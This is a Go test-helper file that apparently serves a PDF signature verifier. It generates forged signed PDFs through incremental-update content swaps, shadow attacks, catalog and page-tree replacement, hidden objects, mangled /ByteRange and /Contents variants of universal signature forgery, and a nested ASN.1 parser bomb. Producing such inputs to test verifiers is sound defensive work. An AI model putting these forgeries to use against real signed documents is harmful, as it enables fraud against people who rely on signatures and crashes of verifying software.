package signaturetest

import (
	"bytes"
	"errors"
	"fmt"
	"regexp"
	"strconv"
	"strings"

	"github.com/motcua/motcua/internal/pdf"
)

// ErrTarget means that a file does not have what an attack needs.
var ErrTarget = errors.New("signaturetest: the file does not offer what the attack needs")

// ReplaceContent is the incremental saving attack: a revision after the signature gives the first page another text.
func ReplaceContent(signed []byte, text string) ([]byte, error) {
	return revise(signed, func(doc *pdf.Document, update *pdf.Update) error {
		_, page, err := doc.FirstPage()
		if err != nil {
			return err
		}
		ref, ok := page["Contents"].(pdf.Ref)
		if !ok {
			return ErrTarget
		}
		content := fmt.Sprintf("BT /F1 24 Tf 72 720 Td <%X> Tj ET\n", text)
		update.Set(ref, &pdf.Data{Bytes: []byte(content)})
		return nil
	})
}

// FillShadow is the dangling half of the shadow attack: a reference that led nowhere when the file was signed gets its
// object afterwards. The file must have been prepared with [WithDanglingContent].
func FillShadow(signed []byte, text string) ([]byte, error) {
	return revise(signed, func(doc *pdf.Document, update *pdf.Update) error {
		content := fmt.Sprintf("BT /F1 24 Tf 72 680 Td <%X> Tj ET\n", text)
		update.Set(pdf.Ref{Num: danglingObject}, &pdf.Data{Bytes: []byte(content)})
		return nil
	})
}

const danglingObject = 900

// WithDanglingContent prepares an unsigned file for [FillShadow]: the page's content becomes an array whose second
// member is missing.
func WithDanglingContent(unsigned []byte) ([]byte, error) {
	return revise(unsigned, func(doc *pdf.Document, update *pdf.Update) error {
		ref, page, err := doc.FirstPage()
		if err != nil {
			return err
		}
		page["Contents"] = pdf.Array{page["Contents"], pdf.Ref{Num: danglingObject}}
		update.Set(ref, page)
		return nil
	})
}

// EditField is an incremental update that gives a text field another value.
func EditField(signed []byte, name, value string) ([]byte, error) {
	return revise(signed, func(doc *pdf.Document, update *pdf.Update) error {
		fields, err := doc.Fields()
		if err != nil {
			return err
		}
		for _, f := range fields {
			if f.Name == name {
				f.Dict["V"] = pdf.Text(value)
				update.Set(f.Ref, f.Dict)
				return nil
			}
		}
		return ErrTarget
	})
}

// CoverPage is an incremental update that lays an annotation of the attacker's over the first page.
func CoverPage(signed []byte) ([]byte, error) {
	return revise(signed, func(doc *pdf.Document, update *pdf.Update) error {
		ref, page, err := doc.FirstPage()
		if err != nil {
			return err
		}
		annots, err := doc.Array(page["Annots"])
		if err != nil {
			return err
		}
		note := update.Add(pdf.Dict{"Type": pdf.Name("Annot"), "Subtype": pdf.Name("FreeText"), "F": int64(4),
			"Rect": pdf.Array{int64(60), int64(700), int64(500), int64(760)}, "Contents": pdf.Text("0 đồng"),
			"DA": pdf.String{Bytes: []byte("/F1 24 Tf 0 g")}})
		page["Annots"] = append(append(pdf.Array{}, annots...), note)
		update.Set(ref, page)
		return nil
	})
}

// SwapPages is an incremental update that replaces the tree of pages in the catalog.
func SwapPages(signed []byte, text string) ([]byte, error) {
	return revise(signed, func(doc *pdf.Document, update *pdf.Update) error {
		catalog, err := doc.Catalog()
		if err != nil {
			return err
		}
		_, page, err := doc.FirstPage()
		if err != nil {
			return err
		}
		content := fmt.Sprintf("BT /F1 24 Tf 72 720 Td <%X> Tj ET\n", text)
		page["Contents"] = update.Add(&pdf.Data{Bytes: []byte(content)})
		leaf := update.Add(page)
		catalog["Pages"] = update.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{leaf}, "Count": int64(1)})
		update.Set(doc.Trailer()["Root"].(pdf.Ref), catalog)
		return nil
	})
}

// MoveCatalog is [SwapPages] with a catalog of another number, which the trailer of the revision names.
func MoveCatalog(signed []byte, text string) ([]byte, error) {
	return revise(signed, func(doc *pdf.Document, update *pdf.Update) error {
		catalog, err := doc.Catalog()
		if err != nil {
			return err
		}
		_, page, err := doc.FirstPage()
		if err != nil {
			return err
		}
		content := fmt.Appendf(nil, "BT /F1 24 Tf 72 720 Td <%X> Tj ET\n", text)
		page["Contents"] = update.Add(&pdf.Data{Bytes: content})
		kids := pdf.Array{update.Add(page)}
		catalog["Pages"] = update.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": kids, "Count": int64(1)})
		update.SetRoot(update.Add(catalog))
		return nil
	})
}

// HideObject appends a second object with the number of the first page's content, and a cross-reference section that
// does not list it: a reader that rebuilds the cross-reference shows it.
func HideObject(signed []byte, text string) ([]byte, error) {
	doc, err := pdf.Open(bytes.NewReader(signed), int64(len(signed)), pdf.Limits{})
	if err != nil {
		return nil, err
	}
	_, page, err := doc.FirstPage()
	if err != nil {
		return nil, err
	}
	ref, ok1 := page["Contents"].(pdf.Ref)
	root, ok2 := doc.Trailer()["Root"].(pdf.Ref)
	if !ok1 || !ok2 || doc.Sections()[0].Stream {
		return nil, ErrTarget
	}
	content := fmt.Sprintf("BT /F1 24 Tf 72 720 Td <%X> Tj ET\n", text)
	out := fmt.Appendf(bytes.Clone(signed), "%d 0 obj\n<</Length %d>>\nstream\n%sendstream\nendobj\n", ref.Num,
		len(content), content)
	return fmt.Appendf(out, "xref\n0 1\n0000000000 65535 f\r\ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\n"+
		"startxref\n%d\n%%%%EOF\n", doc.Objects(), root.Num, doc.Sections()[0].Pos, len(out)), nil
}

// revise appends a revision.
func revise(file []byte, edit func(*pdf.Document, *pdf.Update) error) ([]byte, error) {
	doc, err := pdf.Open(bytes.NewReader(file), int64(len(file)), pdf.Limits{})
	if err != nil {
		return nil, err
	}
	update := doc.Update()
	if err := edit(doc, update); err != nil {
		return nil, err
	}
	revision, err := update.Encode()
	if err != nil {
		return nil, err
	}
	return append(bytes.Clone(file), revision...), nil
}

// AppendGarbage adds bytes that belong to nothing.
func AppendGarbage(signed []byte, count int) []byte {
	return append(bytes.Clone(signed), bytes.Repeat([]byte("keo dai\n"), count/8+1)[:count]...)
}

// ChangeSignedByte changes one letter of the first text shown, inside the signed range.
func ChangeSignedByte(signed []byte) ([]byte, error) {
	i := bytes.Index(signed, []byte(") Tj"))
	if i < 1 {
		return nil, ErrTarget
	}
	out := bytes.Clone(signed)
	out[i-1] ^= 1
	return out, nil
}

// placed is the last signature of a file, by its offsets.
type placed struct {
	rangeAt          []int    // of the text "[a b c d]" in the file
	numbers          [4]int64 // of /ByteRange
	contents, closes int      // of the hexadecimal string, both delimiters inside
}

var byteRangePattern = regexp.MustCompile(`/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]`)

func find(signed []byte) (placed, error) {
	all := byteRangePattern.FindAllSubmatchIndex(signed, -1)
	if len(all) == 0 {
		return placed{}, ErrTarget
	}
	m := all[len(all)-1]
	p := placed{rangeAt: m[:2]}
	for i := range p.numbers {
		n, err := strconv.ParseInt(string(signed[m[2*i+2]:m[2*i+3]]), 10, 64)
		if err != nil {
			return placed{}, ErrTarget
		}
		p.numbers[i] = n
	}
	p.contents, p.closes = int(p.numbers[1]), int(p.numbers[2])
	if p.contents >= p.closes || p.closes > len(signed) || signed[p.contents] != '<' || signed[p.closes-1] != '>' {
		return placed{}, ErrTarget
	}
	return p, nil
}

// ReplaceContents puts another message in the place of the signature, padded with zeros.
func ReplaceContents(signed, message []byte) ([]byte, error) {
	p, err := find(signed)
	if err != nil {
		return nil, err
	}
	text := fmt.Sprintf("%X", message)
	if len(text) > p.closes-p.contents-2 {
		return nil, ErrTarget
	}
	out := bytes.Clone(signed)
	copy(out[p.contents+1:p.closes-1], text+strings.Repeat("0", p.closes-p.contents-2-len(text)))
	return out, nil
}

// Message returns the bytes of /Contents of the last signature, with their padding.
func Message(signed []byte) ([]byte, error) {
	p, err := find(signed)
	if err != nil {
		return nil, err
	}
	out := make([]byte, (p.closes-p.contents-2)/2)
	_, err = fmt.Sscanf(string(signed[p.contents+1:p.closes-1]), "%X", &out)
	return out, err
}

// NestedMessage is a message of count nested indefinite lengths: the input that ends the process of a recursive parser.
func NestedMessage(count int) []byte { return bytes.Repeat([]byte{0x30, 0x80}, count) }

// WithBomb returns an unsigned-looking file whose signature's /Contents is a [NestedMessage] of count levels.
func WithBomb(count int) ([]byte, error) {
	return revise(NewPDF(File{}), func(doc *pdf.Document, update *pdf.Update) error {
		catalog, err := doc.Catalog()
		if err != nil {
			return err
		}
		value := update.Add(pdf.Dict{"Type": pdf.Name("Sig"), "SubFilter": pdf.Name("adbe.pkcs7.detached"),
			"Contents":  pdf.String{Bytes: NestedMessage(count), Hex: true},
			"ByteRange": pdf.Array{int64(0), int64(1), int64(2), int64(3)}})
		field := update.Add(pdf.Dict{"FT": pdf.Name("Sig"), "T": pdf.Text("bomb"), "V": value})
		catalog["AcroForm"] = pdf.Dict{"Fields": pdf.Array{field}, "SigFlags": int64(3)}
		update.Set(doc.Trailer()["Root"].(pdf.Ref), catalog)
		return nil
	})
}

// Forgeries are the variants of the universal signature forgery: the signature dictionary loses or bends what a
// verifier needs, so that one that fails open has nothing to object to. The result is named by variant.
func Forgeries(signed []byte) (map[string][]byte, error) {
	p, err := find(signed)
	if err != nil {
		return nil, err
	}
	out := map[string][]byte{}
	for _, key := range []string{"/ByteRange", "/Contents", "/SubFilter"} {
		file := bytes.Clone(signed)
		if at := bytes.LastIndex(signed, []byte(key)); at >= 0 {
			file[at+1] = 'X'
			out["without "+key[1:]] = file
		}
	}
	n := p.numbers
	for name, value := range map[string]string{
		"ByteRange null": "null", "ByteRange empty": "[]", "ByteRange of a name": "/A",
		"ByteRange negative": "[0 -1 0 -1]", "ByteRange huge": "[0 9223372036854775807 1 1]",
		"ByteRange of three": "[0 1 2]", "ByteRange zero": "[0 0 0 0]", "ByteRange of reals": "[0 1.5 2 3]",
		"ByteRange of everything": fmt.Sprintf("[0 %d %d 0]", len(signed), len(signed)),
		"ByteRange not from 0":    fmt.Sprintf("[1 %d %d %d]", n[1]-1, n[2], n[3]),
		"ByteRange short":         fmt.Sprintf("[0 %d %d %d]", n[1], n[2], n[3]-1),
		"ByteRange wide gap":      fmt.Sprintf("[0 %d %d %d]", n[1]-1, n[2]+1, n[3]-1),
	} {
		if file := withRange(signed, p, value); file != nil {
			out[name] = file
		}
	}
	for name, value := range map[string]string{"Contents empty": "<>", "Contents null": "null ",
		"Contents a literal": "()", "Contents of zeros": "<00>", "Contents cut": "<3082>"} {
		file := bytes.Clone(signed)
		copy(file[p.contents:p.closes], value+strings.Repeat(" ", p.closes-p.contents-len(value)))
		out[name] = file
	}
	return out, nil
}

// withRange overwrites the value of /ByteRange; nil when there is no room for the new one.
func withRange(signed []byte, p placed, value string) []byte {
	from := bytes.IndexByte(signed[p.rangeAt[0]:], '[') + p.rangeAt[0]
	to := p.rangeAt[1]
	for to < len(signed) && signed[to] == ' ' {
		to++
	}
	if len(value) > to-from {
		return nil
	}
	file := bytes.Clone(signed)
	copy(file[from:to], value+strings.Repeat(" ", to-from-len(value)))
	return file
}
